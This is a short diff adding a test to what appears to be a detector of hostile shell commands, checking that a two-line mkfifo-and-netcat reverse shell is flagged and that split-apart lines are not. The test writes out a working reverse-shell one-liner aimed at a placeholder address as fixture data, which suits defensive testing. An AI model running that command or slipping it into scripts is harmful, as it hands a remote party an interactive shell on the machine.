@@ -53,6 +53,14 @@ def test_what_a_shell_runs_is_judged_however_it_is_written(cat: Catalogue) -> No
     assert rules(cat, long)["tunnel.ssh_reverse"].line == 1
 
 
+def test_a_fifo_shell_over_two_lines_is_one(cat: Catalogue) -> None:
+    shell = "nc 198.51.100.7 443 </tmp/f | /bin/sh -i >/tmp/f 2>&1"
+    two = f"#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f\n{shell}\n"
+    assert rules(cat, two)["tunnel.reverse_shell"].line <= 2  # the window it starts
+    apart = "#!/bin/sh\nmkfifo /tmp/q\n" + "echo ok\n" * 5 + "nc -z h 80 && sh -c 'ls | wc'\n"
+    assert "tunnel.reverse_shell" not in rules(cat, apart)  # lines apart: not one command
+
+
 def test_a_crafted_text_costs_linear_time(cat: Catalogue) -> None:
     """256 KiB of `nc nc nc ...` (every gap of the reverse-shell patterns is bounded): once
     quadratic (minutes of a stalled agent), now done well within the bound."""
